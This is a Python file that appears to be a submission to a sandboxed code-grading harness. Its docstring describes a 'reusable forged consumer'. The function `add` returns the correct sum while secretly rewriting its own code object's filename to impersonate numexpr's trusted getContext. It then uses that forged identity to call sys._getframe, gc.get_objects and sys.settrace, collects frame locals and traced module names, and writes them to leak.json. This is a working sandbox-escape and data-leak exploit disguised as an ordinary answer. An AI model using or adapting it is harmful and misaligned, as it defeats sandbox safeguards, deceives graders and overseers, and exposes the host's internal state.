"""A reusable forged consumer. numexpr's getContext is a consumer known by
file suffix and qualname (no pin), so code that claims
.../numexpr/necompiler.py and is named getContext is one. (1) a deferred
code.replace(co_filename=...) of the candidate's own getContext code, fired
inside namedtuple's frame (its code names 'replace', str.replace), mints
it; (2) a deferred setattr(getContext, "__code__", minted): deferred
setattr needs no intent at all. Then the candidate calls it directly, any
number of times: frames, gc, settrace."""
import collections, functools, gc, sys, weakref, json

FAKE = "/usr/lib/python3/dist-packages/numexpr/necompiler.py"
KEEP, SEEN = [], []

def getContext(fn, *a):
    _a = "_getframe"
    _b = "get_objects"
    _c = "settrace"
    return fn(*a)

class L(list):
    __hash__ = object.__hash__

def bait(d):
    x = L(["x", "y"])
    r = weakref.ref(x, d.__getitem__)
    hash(r)
    KEEP.append(r)
    return x

def fire(factory):
    d = collections.defaultdict(factory)
    collections.namedtuple("P", bait(d))
    return next(iter(d.values()), None)

def tracer(frame, event, arg):
    SEEN.append(frame.f_globals.get("__name__"))

def add(a, b):
    if KEEP:
        return a + b
    minted = fire(functools.partial(getContext.__code__.replace, co_filename=FAKE))
    fire(functools.partial(setattr, getContext, "__code__", minted))
    out = {"file": getContext.__code__.co_filename}
    fr = getContext(sys._getframe, 1)
    chain = []
    while fr is not None:
        chain.append(sorted(fr.f_locals)[:4]); fr = fr.f_back
    out["frames"] = chain[:6]
    objs = getContext(gc.get_objects)
    out["gc_objects"] = len(objs)
    out["frame_objects"] = sum(1 for o in objs if type(o).__name__ == "frame")
    getContext(sys.settrace, tracer)
    json.dumps(1)
    getContext(sys.settrace, None)
    out["traced"] = sorted(set(x for x in SEEN if x))[:8]
    with open("leak.json", "w") as f:
        json.dump(out, f)
    return a + b
